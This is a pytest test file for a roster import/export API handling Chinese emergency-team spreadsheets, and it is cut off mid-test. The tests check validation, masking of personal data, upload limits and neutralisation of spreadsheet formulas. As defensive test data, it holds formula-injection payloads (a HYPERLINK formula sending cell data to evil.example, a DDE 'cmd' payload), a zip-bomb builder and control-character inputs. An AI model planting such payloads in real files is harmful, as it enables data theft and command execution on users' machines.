"""Rosters: the plan's spreadsheets in and out, validated row by row, masked for non-admins."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Border, Side
from sqlalchemy import update

from dispatch.errors import InvalidInput
from dispatch.rosters.files import (
    MAX_COLUMNS,
    MAX_ROWS,
    MAX_SCANNED_ROWS,
    Merge,
    Row,
    Table,
    workbook_bytes,
    write_sheet,
)
from dispatch.rosters.models import RosterMember
from tests.support import Account, World, unreadable_parts

HEADER = ["序号", "队伍名称", "单元", "姓名", "职务", "联系电话", "身份证号码", "所在单位"]
# Valid resident ID numbers (the last character is the GB 11643 check digit).
ID_A = "441900199003070016"
ID_B = "441900198501010011"


def xlsx(rows: list[list[Any]], title: str | None = "清溪镇应急联防队伍人员花名册") -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    if title:
        sheet.append([title])
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def member(
    seq: int, team: str, unit: int | str, name: str, role: str, phone: str, **kw: str
) -> list[Any]:
    return [
        seq,
        team,
        unit,
        name,
        role,
        phone,
        kw.get("id_number", ""),
        kw.get("site", "三中工业园"),
    ]


def full_team(team: str, units: int = 3, per_unit: int = 4) -> list[list[Any]]:
    rows = [member(1, team, "", "陈队长", "队长", "13800138000", id_number=ID_A)]
    roles = ["钢叉手", "盾牌手", "警棍手", "保安员"]
    for u in range(1, units + 1):
        for i in range(per_unit):
            seq = len(rows) + 1
            rows.append(
                member(seq, team, f"第{u}单元", f"队员{u}-{i}", roles[i % 4], f"139{u:04d}{i:04d}")
            )
    return rows


async def upload(
    world: World, body: bytes, kind: str = "emergency", by: Account | None = None
) -> Any:
    account = by or await world.admin()
    return await world.http.post(
        "/api/v1/rosters/import", params={"kind": kind}, content=body, headers=account.headers
    )


async def test_import_masks_for_non_admins_and_exports_with_chinese_headers(world: World) -> None:
    team = await world.team("fixed_post", name="三中工业园驻点应急联防队")
    reply = await upload(world, xlsx(full_team(team["name"])))
    assert reply.status_code == 200, reply.text
    assert reply.json() == {
        "kind": "emergency",
        "format": "xlsx",
        "rows": 13,
        "groups": [team["name"]],
        "created": 13,
        "updated": 0,
        "removed": 0,
    }
    admin = await world.admin()
    operator = await world.operator()
    full = (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json()
    leader = next(m for m in full if m["role"] == "leader")
    assert (leader["phone"], leader["id_number"], leader["role_label"]) == (
        "13800138000",
        ID_A,
        "队长",
    )
    assert leader["team_id"] == team["id"] and leader["unit"] is None
    assert sorted({m["unit"] for m in full if m["unit"]}) == [1, 2, 3]
    masked = (await world.http.get("/api/v1/rosters/members", headers=operator.headers)).json()
    leader_masked = next(m for m in masked if m["role"] == "leader")
    assert leader_masked["phone"] == "138****8000"
    assert leader_masked["id_number"] == "4419**********0016"

    reply = await world.http.get(
        "/api/v1/rosters/export", params={"kind": "emergency"}, headers=operator.headers
    )
    assert reply.status_code == 200
    assert "filename*=UTF-8''" in reply.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(reply.content)).active
    assert sheet is not None
    assert sheet["A1"].value == "应急联防队伍人员花名册"
    assert [c.value for c in sheet[2]] == HEADER
    exported = {row[3]: row for row in sheet.iter_rows(min_row=3, values_only=True)}
    assert exported["陈队长"][4:7] == ("队长", "138****8000", "4419**********0016")
    assert exported["队员2-1"][2] == 2

    reply = await world.http.get(
        "/api/v1/rosters/export",
        params={"kind": "emergency", "format": "csv"},
        headers=admin.headers,
    )
    assert reply.content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM for Excel"
    lines = reply.content.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(HEADER)
    assert "13800138000" in reply.content.decode("utf-8-sig"), "admins export in full"

    # The exported CSV goes back in unchanged: every member is recognised, none is new.
    reply = await upload(world, reply.content)
    assert reply.json()["created"] == 0 and reply.json()["updated"] == 13


async def test_a_file_with_bad_rows_is_rejected_whole(world: World) -> None:
    team = await world.team("fixed_post", name="清溪商业步行街驻点应急联防队")
    good = full_team(team["name"])
    assert (await upload(world, xlsx(good))).status_code == 200
    before = (
        await world.http.get("/api/v1/rosters/members", headers=(await world.admin()).headers)
    ).json()

    rows = [
        member(1, team["name"], 1, "张三", "钢叉手", "13912345678"),
        member(2, team["name"], 1, "李四", "钢叉手", "1234"),
        member(3, team["name"], 1, "王五", "厨师", "13912345679"),
        member(4, "不存在的队", 1, "赵六", "盾牌手", "13912345670"),
        member(5, team["name"], 1, "钱七", "盾牌手", "13912345671", id_number="44190019900307001X"),
        member(6, team["name"], 1, "孙八", "警棍手", "13912345678"),
        member(7, team["name"], "第十二单元", "周九", "保安员", "13912345672", id_number=ID_B),
        member(8, team["name"], "第百单元", "吴十", "保安员", "13912345673"),
        member(9, team["name"], 2, "", "保安员", "13912345674"),
    ]
    reply = await upload(world, xlsx(rows))
    assert reply.status_code == 422
    body = reply.json()
    assert body["error"] == "file_rejected"
    # Row numbers as Excel shows them: title in row 1, header in row 2, members from row 3.
    problems = [(p["row"], p["field"]) for p in body["problems"]]
    assert problems == [
        (4, "phone"),
        (5, "role"),
        (6, "group_name"),
        (7, "id_number"),
        (8, "phone"),
        (10, "unit"),
        (11, "name"),
    ]
    assert "repeats the phone of row 3" in body["problems"][4]["message"]
    after = (
        await world.http.get("/api/v1/rosters/members", headers=(await world.admin()).headers)
    ).json()
    assert after == before, "nothing of a rejected file is written"


async def test_untrusted_uploads_get_clean_4xx(world: World) -> None:
    await world.team("fixed_post", name="大利批发市场驻点应急联防队")
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    cases = [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, 415, ".xls"),
        (zipped.getvalue(), 415, "xlsx"),
        (b"PK\x03\x04garbage", 415, "xlsx"),
        (bytes(range(256)) * 4, 415, "neither"),
        (b"", 422, "empty"),
        ("姓名,职务\n张三,队长\n".encode(), 422, "missing column"),
        (b"a,b\n1,2\n", 422, "姓名"),
        (b"\xff\xfe\xfa" * 50, 415, "UTF-8"),
        (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", 415, "PDF"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 8, 415, "PNG"),
    ]
    for body, status, words in cases:
        reply = await upload(world, body)
        assert reply.status_code == status, (words, reply.text)
        assert words in reply.text, reply.text
    world.runtime.settings.max_upload_bytes = 1000
    reply = await upload(world, b"x" * 5000)
    assert reply.status_code == 413
    operator = await world.operator()
    assert (await upload(world, b"x", by=operator)).status_code == 403


async def test_blank_rows_below_the_roster_are_read_past_and_not_counted(world: World) -> None:
    """A ledger's template has borders drawn far below its last member, and Excel saves those
    rows in a CSV as commas: only rows with a value count towards the limit, and a row keeps
    its number as the sheet shows it. Rows read at all are bounded on their own."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(member(1, team["name"], "", "陈队长", "队长", "13800138000"))
    sheet.append(member(2, team["name"], "", "王队员", "保安员", "13900139000"))
    border = Border(top=Side(style="thin"), bottom=Side(style="thin"))
    for row in range(4, 25_001):
        sheet.cell(row=row, column=1).border = border
    for column, value in enumerate(member(3, team["name"], "", "李队员", "保安员", "1234"), 1):
        sheet.cell(row=25_001, column=column, value=value)
    reply = await upload(world, workbook_bytes(workbook))
    assert reply.status_code == 422, reply.text
    assert [(p["row"], p["field"]) for p in reply.json()["problems"]] == [(25_001, "phone")]
    sheet.cell(row=25_001, column=6, value="13700137000")
    reply = await upload(world, workbook_bytes(workbook))
    assert reply.status_code == 200, reply.text
    assert reply.json()["rows"] == 3

    blank = "," * (len(HEADER) - 1) + "\r\n"
    rows = [member(1, team["name"], "", "陈队长", "队长", "13800138000")]
    reply = await upload(world, csv_file(rows) + (blank * 25_000).encode())
    assert (reply.status_code, reply.json()["rows"]) == (200, 1), reply.text

    reply = await upload(world, csv_file(rows) + (blank * MAX_SCANNED_ROWS).encode())
    assert reply.status_code == 422, reply.text
    assert reply.json()["field"] == "body"
    assert f"more than {MAX_SCANNED_ROWS} rows, blank ones included" in reply.json()["detail"]
    reply = await upload(world, csv_file(rows * MAX_ROWS))
    assert reply.status_code == 422, reply.text
    assert f"more than {MAX_ROWS} rows with a value" in reply.json()["detail"]


async def test_a_value_written_once_in_merged_cells_is_every_rows_it_covers(world: World) -> None:
    """Ledgers merge a cell over the rows it is true of (合并单元格): the team's name over all
    its members, a unit's 单元 over the unit's, a site over the people it sends. Each member
    has it, not just the first; the title merged across the sheet is no member, nor is a row
    a range was drawn over past a unit's last member."""
    team = await world.team("mobile", name="清溪中心机动应急联防队")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["清溪镇应急联防队伍人员花名册"])
    sheet.merge_cells("A1:H1")
    sheet.append(HEADER)
    sheet.append(member(1, team["name"], "", "陈队长", "队长", "13800138000", site="清溪镇"))
    roles = ["钢叉手", "盾牌手", "警棍手", "保安员"]
    for u in (1, 2, 3):
        top = sheet.max_row + 1
        for i in range(4):
            name, phone = f"队员{u}-{i}", f"139{u:04d}{i:04d}"
            sheet.append(member(0, "", f"第{u}单元" if i == 0 else "", name, roles[i], phone))
            sheet.cell(row=sheet.max_row, column=8, value="三中工业园" if i == 0 else None)
        sheet.merge_cells(start_row=top, end_row=top + 3, start_column=3, end_column=3)
        sheet.merge_cells(start_row=top, end_row=top + 3, start_column=8, end_column=8)
    # The last unit's range runs one row past its members, onto a blank row.
    sheet.unmerge_cells(f"C{sheet.max_row - 3}:C{sheet.max_row}")
    sheet.merge_cells(f"C{sheet.max_row - 3}:C{sheet.max_row + 1}")
    sheet.merge_cells(f"B3:B{sheet.max_row}")

    reply = await upload(world, workbook_bytes(workbook))

    assert reply.status_code == 200, reply.text
    assert (reply.json()["rows"], reply.json()["groups"]) == (13, [team["name"]])
    found = {m["name"]: (m["unit"], m["site"]) for m in await members_of(world, team)}
    assert found == {
        "陈队长": (None, "清溪镇"),
        **{f"队员{u}-{i}": (u, "三中工业园") for u in (1, 2, 3) for i in range(4)},
    }
    strength = (
        await world.http.get("/api/v1/rosters/strength", headers=(await world.admin()).headers)
    ).json()
    assert [(s["full_units"], s["under_strength"]) for s in strength] == [(3, False)]


def test_merged_ranges_that_overlap_are_refused_rather_than_filled_again_and_again() -> None:
    """A sheet's merged ranges never overlap; a file's that do could make each cell be filled
    once for every range over it."""
    rows = [Row(2, ["x"] * MAX_COLUMNS), Row(3, [""] * MAX_COLUMNS)]
    over = Merge(top=2, bottom=3, left=0, right=MAX_COLUMNS - 1)
    once = Table("xlsx", rows, (over,))
    assert once.filled(below=1)[1].cells == ["x"] * MAX_COLUMNS
    many = Table("xlsx", rows, (over,) * (MAX_ROWS * MAX_COLUMNS // len(rows[0].cells)))
    with pytest.raises(InvalidInput, match="merged cells overlap"):
        many.filled(below=1)


async def test_two_columns_for_one_field_are_refused_naming_both(world: World) -> None:
    """A ledger with 手机 and 电话 (a mobile and an office line), or 单位 and 所在单位: which of
    the two is the member's is not for the import to guess."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    header = ["序号", "队伍名称", "姓名", "职务", "手机", "身份证号码", "电话"]
    body = ",".join(header) + f"\n1,{team['name']},陈队长,队长,13800138000,,076987654321\n"
    reply = await upload(world, body.encode())
    assert reply.status_code == 422, reply.text
    assert reply.json()["problems"] == [
        {
            "row": 1,
            "field": "phone",
            "message": "the columns 手机 (E) and 电话 (G) are both 联系电话: keep one",
        }
    ]
    header = ["队伍名称", "姓名", "职务", "联系电话", "单位", "所在单位"]
    body = ",".join(header) + f"\n{team['name']},陈队长,队长,13800138000,银湖公司,\n"
    reply = await upload(world, body.encode())
    assert reply.status_code == 422, reply.text
    assert [(p["row"], p["field"]) for p in reply.json()["problems"]] == [(1, "site")]
    assert "单位 (E) and 所在单位 (F)" in reply.json()["problems"][0]["message"]
    assert await members_of(world, team) == []


async def test_an_id_number_excel_holds_as_a_number_is_refused_asking_for_text(
    world: World,
) -> None:
    """Typed into a column not formatted as text, an ID number is a number to Excel, which
    keeps its first 15 digits: 441900199003003999 is held as 4.41900199003003E+17. Read as
    digits it is another number, which failed the check digit or (1 in 11) passed it."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    # What Excel holds of 441900199003003999, which reads back as 441900199003003008: a valid
    # ID number, but not his.
    held = float("441900199003003" + "000")
    rows = [
        member(1, team["name"], "", "陈队长", "队长", "13800138000", id_number=ID_B),
        [2, team["name"], "", "王队员", "保安员", 13900139000, held, "三中工业园"],
    ]
    reply = await upload(world, xlsx(rows))
    assert reply.status_code == 422, reply.text
    (problem,) = reply.json()["problems"]
    assert (problem["row"], problem["field"]) == (4, "id_number")
    assert "stored as a number" in problem["message"] and "as text (文本)" in problem["message"]
    assert await members_of(world, team) == []

    # As a CSV saved by Excel has it.
    rows = [member(1, team["name"], "", "王队员", "保安员", "13900139000", id_number="4.41900E+17")]
    reply = await upload(world, csv_file(rows))
    assert reply.status_code == 422, reply.text
    assert "stored as a number" in reply.json()["problems"][0]["message"]

    # The phone as a number is whole: 11 digits.
    rows[0][6] = ID_A
    rows[0][5] = 13900139000
    reply = await upload(world, xlsx(rows))
    assert reply.status_code == 200, reply.text
    assert [(m["phone"], m["id_number"]) for m in await members_of(world, team)] == [
        ("13900139000", ID_A)
    ]


async def test_csv_from_chinese_excel_in_gbk_is_read(world: World) -> None:
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    text = ",".join(HEADER) + "\r\n" + f"1,{team['name']},1,黄队长,队长,13800001111,,银湖公司\r\n"
    reply = await upload(world, text.encode("gb18030"))
    assert reply.status_code == 200, reply.text
    assert reply.json()["format"] == "csv"
    members = (
        await world.http.get("/api/v1/rosters/members", headers=(await world.admin()).headers)
    ).json()
    assert [(m["name"], m["site"]) for m in members] == [("黄队长", "银湖公司")]


async def test_village_patrol_roster_and_plain_members(world: World) -> None:
    body = (
        "序号,村(社区),姓名,职务,联系电话,身份证号码\n"
        "1,上元村,刘一,队长,13700000001,\n"
        "2,上元村,刘二,队员,13700000002,\n"
    )
    reply = await upload(world, body.encode(), kind="village_patrol")
    assert reply.status_code == 200, reply.text
    reply = await world.http.get(
        "/api/v1/rosters/export",
        params={"kind": "village_patrol", "format": "csv"},
        headers=(await world.admin()).headers,
    )
    assert (
        reply.content.decode("utf-8-sig").splitlines()[0]
        == "序号,村(社区),姓名,职务,联系电话,身份证号码,所在单位"
    )


async def test_a_file_without_a_column_leaves_that_field_of_each_member_as_it_was(
    world: World,
) -> None:
    """A village roster given with 所在单位 exports it and imports back with it; a file laid out
    as the plan's attachment 4, which has no such column, says nothing of the sites: the
    members it keeps keep theirs. A column there with a blank cell is none."""
    admin = await world.admin()
    body = "序号,村(社区),姓名,职务,联系电话,身份证号码,所在单位\n"
    body += f"1,上元村,刘一,队长,13700000001,{ID_A},上元村委会\n"
    body += "2,上元村,刘二,队员,13700000002,,上元五金厂\n"
    assert (await upload(world, body.encode(), kind="village_patrol")).status_code == 200
    before = [(m["name"], m["id_number"], m["site"]) for m in await members_listed(world)]
    assert before == [("刘一", ID_A, "上元村委会"), ("刘二", None, "上元五金厂")]

    for fmt in ("xlsx", "csv"):
        reply = await world.http.get(
            "/api/v1/rosters/export",
            params={"kind": "village_patrol", "format": fmt},
            headers=admin.headers,
        )
        reply = await upload(world, reply.content, kind="village_patrol")
        assert reply.status_code == 200, reply.text
        assert [(m["name"], m["id_number"], m["site"]) for m in await members_listed(world)] == (
            before
        )

    plan = "序号,村(社区),姓名,职务,联系电话\n"
    plan += "1,上元村,刘一,副队长,13700000001\n"
    plan += "2,上元村,刘二,队员,13700000002\n"
    plan += "3,上元村,刘三,队员,13700000003\n"
    reply = await upload(world, plan.encode(), kind="village_patrol")
    assert reply.status_code == 200, reply.text
    assert (reply.json()["created"], reply.json()["updated"]) == (1, 2)
    listed = [
        (m["name"], m["role"], m["id_number"], m["site"]) for m in await members_listed(world)
    ]
    assert listed == [
        ("刘一", "deputy", ID_A, "上元村委会"),
        ("刘三", "member", None, None),
        ("刘二", "member", None, "上元五金厂"),
    ]

    blank = "村(社区),姓名,职务,联系电话,所在单位\n上元村,刘一,队长,13700000001,\n"
    assert (await upload(world, blank.encode(), kind="village_patrol")).status_code == 200
    listed = [(m["name"], m["id_number"], m["site"]) for m in await members_listed(world)]
    assert listed == [("刘一", ID_A, None)]


async def test_reimport_keeps_members_and_links_and_removes_the_missing(world: World) -> None:
    team = await world.team("mobile", name="清溪中心机动应急联防队")
    other = await world.team("fixed_post", name="别的队")
    rows = full_team(team["name"])
    await upload(world, xlsx(rows))
    admin = await world.admin()
    members = (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json()
    chen = next(m for m in members if m["name"] == "陈队长")
    leader = await world.leader(team)
    reply = await world.http.put(
        f"/api/v1/rosters/members/{chen['id']}/account",
        json={"user_id": leader.id},
        headers=admin.headers,
    )
    assert reply.status_code == 200 and reply.json()["user_id"] == leader.id
    stranger = await world.leader(other)
    reply = await world.http.put(
        f"/api/v1/rosters/members/{chen['id']}/account",
        json={"user_id": stranger.id},
        headers=admin.headers,
    )
    assert reply.status_code == 422

    reply = await upload(world, xlsx(rows[:-1]))
    assert reply.json() | {"groups": []} == {
        "kind": "emergency",
        "format": "xlsx",
        "rows": 12,
        "groups": [],
        "created": 0,
        "updated": 12,
        "removed": 1,
    }
    after = (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json()
    assert next(m for m in after if m["name"] == "陈队长") == chen | {
        "user_id": leader.id,
        "updated_at": next(m for m in after if m["name"] == "陈队长")["updated_at"],
    }

    # A leader sees his own team's roster, masked, and no other.
    mine = (await world.http.get("/api/v1/rosters/members", headers=leader.headers)).json()
    assert len(mine) == 12 and all("*" in m["phone"] for m in mine)
    reply = await world.http.get(
        "/api/v1/rosters/members", params={"team_id": other["id"]}, headers=leader.headers
    )
    assert reply.status_code == 403


async def test_strength_flags_teams_below_the_plans_minimum(world: World) -> None:
    strong = await world.team("fixed_post", name="强队")
    weak = await world.team("mobile", name="弱队")
    await upload(
        world, xlsx(full_team(strong["name"]) + full_team(weak["name"], units=3, per_unit=3)[1:])
    )
    admin = await world.admin()
    report = {
        s["team_name"]: s
        for s in (await world.http.get("/api/v1/rosters/strength", headers=admin.headers)).json()
    }
    assert report["强队"]["under_strength"] is False
    assert report["强队"]["full_units"] == 3 and report["强队"]["members"] == 13
    assert report["弱队"]["under_strength"] is True
    assert report["弱队"]["full_units"] == 0
    assert report["弱队"]["problems"][0] == "0 unit(s) of at least 4 members; the plan needs 3"

    reply = await world.http.post(
        "/api/v1/rosters/members",
        json={
            "kind": "emergency",
            "group_name": "弱队",
            "name": "新人",
            "phone": "13600000000",
            "role": "guard",
            "unit": 1,
        },
        headers=admin.headers,
    )
    assert reply.status_code == 201, reply.text
    report = {
        s["team_name"]: s
        for s in (await world.http.get("/api/v1/rosters/strength", headers=admin.headers)).json()
    }
    assert report["弱队"]["full_units"] == 1
    assert [u["members"] for u in report["弱队"]["units"]] == [4, 3, 3]


async def test_a_workbook_that_unpacks_past_the_cap_is_refused_before_it_is_read(
    world: World,
) -> None:
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx(full_team(team["name"])))) as source,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for info in source.infolist():
            bomb.writestr(info, source.read(info.filename))
        # 70 MB of one letter deflates to some 70 KB: well under the upload cap.
        bomb.writestr("xl/padding.xml", b"A" * (70 * 1024 * 1024))
    assert len(packed.getvalue()) < world.runtime.settings.max_upload_bytes
    reply = await upload(world, packed.getvalue())
    assert reply.status_code == 413, reply.text
    assert reply.json()["error"] == "too_large" and "unpacks to" in reply.json()["detail"]
    assert reply.json()["field"] == "body"
    admin = await world.admin()
    assert (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json() == []


async def test_names_that_look_like_formulas_are_exported_as_text(world: World) -> None:
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        member(1, team["name"], "", formula, "队长", "13800138000"),
        member(2, team["name"], "", "@SUM(1)", "队员", "13900139000", site="-cmd|' /C calc'!A0"),
        # Arithmetic a spreadsheet would work out, though it reads like numbers.
        member(3, team["name"], "", "-1-1", "队员", "13700137000", site="+1-2"),
        member(4, team["name"], "", "-(3)-(4)", "队员", "13600136000", site="-12.5"),
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    reply = await upload(world, buffer.getvalue().encode())
    assert reply.status_code == 200, reply.text
    admin = await world.admin()
    reply = await world.http.get(
        "/api/v1/rosters/export", params={"kind": "emergency"}, headers=admin.headers
    )
    sheet = load_workbook(io.BytesIO(reply.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert formula in [c.value for c in cells]
    reply = await world.http.get(
        "/api/v1/rosters/export",
        params={"kind": "emergency", "format": "csv"},
        headers=admin.headers,
    )
    rows_out = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))
    names = {r[3] for r in rows_out[1:]}
    assert names == {"'" + formula, "'@SUM(1)", "'-1-1", "'-(3)-(4)"}
    sites = {r[7] for r in rows_out[1:]}
    assert {"'-cmd|' /C calc'!A0", "'+1-2"} <= sites
    # One plain number is no formula: it stays as it is.
    assert "-12.5" in sites
    assert "13800138000" in {r[5] for r in rows_out[1:]}, "numbers stay as they are"


async def test_formula_like_text_comes_back_as_it_was_from_a_csv_or_workbook_export(
    world: World,
) -> None:
    """The CSV export puts a "'" before formula-like text; the import takes exactly that one
    off again. A ledger's "-" for none stays "-" however often it goes round, and a team
    whose name starts with "-" is still found."""
    team = await world.team("fixed_post", name="-银湖驻点队")
    rows = [
        member(1, team["name"], "", "陈队长", "队长", "13800138000", site="-"),
        member(2, team["name"], "", "@王", "队员", "13900139000", site="+1-2"),
        # Text that has a "'" of its own keeps it.
        member(3, team["name"], "", "'李", "队员", "13700137000", site="'=1+1"),
        member(4, team["name"], "", "'-1-1", "队员", "13600136000", site="-12.5"),
    ]
    reply = await upload(world, xlsx(rows))
    assert reply.status_code == 200, reply.text
    admin = await world.admin()
    stored = [(m["name"], m["site"]) for m in await members_listed(world)]
    assert sorted(stored) == sorted((r[3], r[7]) for r in rows)

    for fmt in ("csv", "csv", "xlsx", "csv"):
        reply = await world.http.get(
            "/api/v1/rosters/export",
            params={"kind": "emergency", "format": fmt},
            headers=admin.headers,
        )
        reply = await upload(world, reply.content)
        assert reply.status_code == 200, reply.text
        assert (reply.json()["created"], reply.json()["updated"]) == (0, 4)
        assert [(m["name"], m["site"]) for m in await members_listed(world)] == stored


async def test_a_team_that_does_not_exist_is_not_found_in_lists_and_exports(
    world: World,
) -> None:
    admin = await world.admin()
    for path, params in (
        ("/api/v1/rosters/members", {"team_id": "none-such"}),
        ("/api/v1/rosters/export", {"kind": "emergency", "team_id": "none-such"}),
    ):
        reply = await world.http.get(path, params=params, headers=admin.headers)
        assert reply.status_code == 404, (path, reply.text)
        assert reply.json()["field"] == "team_id"
        assert reply.json()["detail"] == "team 'none-such' does not exist"
    team = await world.team("fixed_post")
    reply = await world.http.get(
        "/api/v1/rosters/members", params={"team_id": team["id"]}, headers=admin.headers
    )
    assert reply.status_code == 200 and reply.json() == [], "a team without members is listed"


async def test_names_with_control_characters_are_refused_naming_the_field(world: World) -> None:
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    admin = await world.admin()
    good = {
        "kind": "emergency",
        "group_name": team["name"],
        "name": "黄队长",
        "phone": "13800001111",
        "role": "leader",
    }
    for field, value in (
        ("name", "黄\x01队长"),
        ("site", "银湖\x1b[2J"),
        ("group_name", "g\x7f"),
        # Shown backwards after it: 长队黄 reads as 黄队长.
        ("name", "\u202e长队黄"),
    ):
        reply = await world.http.post(
            "/api/v1/rosters/members", json={**good, field: value}, headers=admin.headers
        )
        assert reply.status_code == 422, (field, reply.text)
        assert reply.json()["field"] == field and "control character" in reply.json()["detail"]

    rows = [
        member(1, team["name"], 1, "黄队长", "队长", "13800001111"),
        member(2, team["name"], 1, "李\x01四", "队员", "13800001112"),
        member(3, team["name"], 1, "王五", "队员", "13800001113", site="银湖\t公司"),
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    reply = await upload(world, buffer.getvalue().encode())
    assert reply.status_code == 422, reply.text
    problems = [(p["row"], p["field"]) for p in reply.json()["problems"]]
    assert problems == [(3, "name"), (4, "site")]
    assert "U+0001" in reply.json()["problems"][0]["message"]
    assert (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json() == []


async def test_a_name_stored_with_what_xml_cannot_hold_is_exported_without_it(
    world: World,
) -> None:
    """Names with U+FFFE or U+FFFF are refused now; one stored before still shows in the
    workbook, without them: openpyxl wrote them, and Excel called the whole file corrupt."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    assert (
        await upload(world, csv_file([member(1, team["name"], 1, "李四", "队员", "13900139000")]))
    ).status_code == 200
    async with world.runtime.transaction() as session:
        await session.execute(
            update(RosterMember).values(name="李\uffff四\x07", site="银湖\ufffe公司")
        )
    reply = await world.http.get(
        "/api/v1/rosters/export",
        params={"kind": "emergency", "format": "xlsx"},
        headers=(await world.admin()).headers,
    )
    assert reply.status_code == 200
    assert unreadable_parts(reply.content) == []
    sheet = load_workbook(io.BytesIO(reply.content)).worksheets[0]
    (row,) = sheet.iter_rows(min_row=3, values_only=True)
    assert (row[3], row[7]) == ("李四", "银湖公司")


def test_a_sheet_holds_no_character_xml_cannot_in_its_title_header_or_cells() -> None:
    """Every workbook the server writes (a roster, the response-time report) is written by
    write_sheet: a team's name in a report's title or a cell keeps only what XML holds."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    not_xml = "\x00\x07\x1f\ud800\udfff\ufffe\uffff"
    write_sheet(sheet, [f"姓名{not_xml}"], [[f"李{not_xml}四\t\n"]], title=f"队{not_xml}")
    content = workbook_bytes(workbook)
    assert unreadable_parts(content) == []
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert [sheet["A1"].value, sheet["A2"].value, sheet["A3"].value] == ["队", "姓名", "李四\t\n"]


async def members_listed(world: World) -> list[dict[str, Any]]:
    reply = await world.http.get("/api/v1/rosters/members", headers=(await world.admin()).headers)
    assert reply.status_code == 200, reply.text
    listed: list[dict[str, Any]] = reply.json()
    return listed


async def test_full_width_numbers_are_stored_in_ascii_and_other_digits_are_refused(
    world: World,
) -> None:
    """A Chinese input method in full-width mode types １３９－１２３４ and Ｘ: the number
    meant, stored in ASCII, so that it is the same phone to the rule of one per roster. Any
    other digit (Arabic-Indic ١٣٩) is refused naming the field, in a body and in a file."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    admin = await world.admin()
    body = {"kind": "emergency", "group_name": team["name"], "role": "member"}

    async def add(name: str, phone: str, id_number: str | None = None) -> Any:
        sent = {**body, "name": name, "phone": phone, "id_number": id_number}
        return await world.http.post("/api/v1/rosters/members", json=sent, headers=admin.headers)

    reply = await add(
        "张三", "＋８６　１３９－１２３４－５６７８", "４４１９００１９９００３０７０１８ｘ"
    )
    assert reply.status_code == 201, reply.text
    assert (reply.json()["phone"], reply.json()["id_number"]) == (
        "13912345678",
        "44190019900307018X",
    )
    reply = await add("李四", "13912345678")
    assert reply.status_code == 409 and reply.json()["field"] == "phone", reply.text
    for field, phone, id_number, found in (
        ("phone", "139١٢٣٤٥٦٧٨", None, "U+0661"),
        ("phone", "13９12345６78\u00b2", None, "U+00B2"),
        ("id_number", "13700137000", "44190019900307001٦", "U+0666"),
    ):
        reply = await add("王五", phone, id_number)
        assert reply.status_code == 422, reply.text
        assert reply.json()["field"] == field and found in reply.json()["detail"], reply.text

    rows = [
        member(1, team["name"], 1, "张三", "队员", "１３９１２３４５６７８", id_number=ID_A),
        member(2, team["name"], 1, "赵六", "队员", "（０７６９）８７６５－４３２１"),
        member(3, team["name"], 1, "钱七", "队员", "১৩৯১২৩৪৫৬৭৯"),
        member(4, team["name"], 1, "孙八", "队员", "13912345678"),
    ]
    reply = await upload(world, csv_file(rows))
    assert reply.status_code == 422, reply.text
    problems = [(p["row"], p["field"]) for p in reply.json()["problems"]]
    assert problems == [(4, "phone"), (5, "phone")]
    assert "repeats the phone of row 2" in reply.json()["problems"][1]["message"]
    reply = await upload(world, csv_file(rows[:2]))
    assert reply.status_code == 200, reply.text
    # 张三 is recognised by his name and phone, the phone read in ASCII: kept, not added.
    assert (reply.json()["created"], reply.json()["updated"]) == (1, 1)
    listed = await members_listed(world)
    assert sorted((m["name"], m["phone"], m["id_number"]) for m in listed) == [
        ("张三", "13912345678", ID_A),
        ("赵六", "076987654321", None),
    ]


async def test_a_unit_in_hanzi_is_read_only_when_it_is_a_number(world: World) -> None:
    """十十 or 二十三十 is no number: read in part it put the member in unit 10 or 20."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    bad = ["十十", "二十三十", "三三", "两十", "十两", "二十二二", "第十十单元", "٣"]
    rows = [
        member(i + 1, team["name"], unit, f"队员{i}", "队员", f"139000000{i:02d}")
        for i, unit in enumerate(bad)
    ]
    reply = await upload(world, csv_file(rows))
    assert reply.status_code == 422, reply.text
    problems = [(p["row"], p["field"]) for p in reply.json()["problems"]]
